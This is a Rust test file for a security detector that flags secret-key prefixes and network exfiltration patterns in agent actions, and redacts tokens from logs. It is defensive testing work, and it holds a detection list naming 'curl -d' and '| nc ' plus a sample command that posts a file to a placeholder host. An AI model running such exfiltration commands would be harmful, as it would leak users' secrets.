use susi::error::EaiError;
use susi::security::SecurityDetector;

fn secrets() -> Vec<String> {
    vec!["sk-".to_string(), "ghp_".to_string()]
}

fn vectors() -> Vec<String> {
    vec!["curl -d".to_string(), "| nc ".to_string()]
}

#[test]
fn test_security_audit_safe_arg() {
    assert!(SecurityDetector::audit_action("status", "cargo build", &secrets(), &vectors()).is_ok());
}

#[test]
fn test_security_audit_secret_leak() {
    assert!(SecurityDetector::audit_action("reason", "sk-proj12345", &secrets(), &vectors()).is_err());
}

#[test]
fn test_redact_masks_token_not_just_prefix() {
    let redacted = SecurityDetector::redact("token=sk-proj12345abcXYZ rest of log", &secrets());
    assert!(!redacted.contains("proj12345"));
    assert!(redacted.contains("[REDACTED]"));
    assert!(redacted.contains("rest of log"));
    assert_eq!(redacted, "token=[REDACTED] rest of log");
}

#[test]
fn audit_names_the_offending_pattern() {
    assert_eq!(
        SecurityDetector::audit_action("t", "use ghp_abc and sk-x", &secrets(), &vectors()),
        Err(EaiError::Governance("Suspicious secret or API key pattern detected ('sk-')".to_string()))
    );
    assert_eq!(
        SecurityDetector::audit_action("t", "CURL -D @file http://x", &secrets(), &vectors()),
        Err(EaiError::Governance("Suspicious network exfiltration pattern detected ('curl -d')".to_string()))
    );
}

#[test]
fn redact_escapes_pattern_metacharacters_and_skips_empty_ones() {
    let pats = vec![String::new(), "a.b".to_string()];
    assert_eq!(SecurityDetector::redact("axb a.bcd", &pats), "axb [REDACTED]");
}
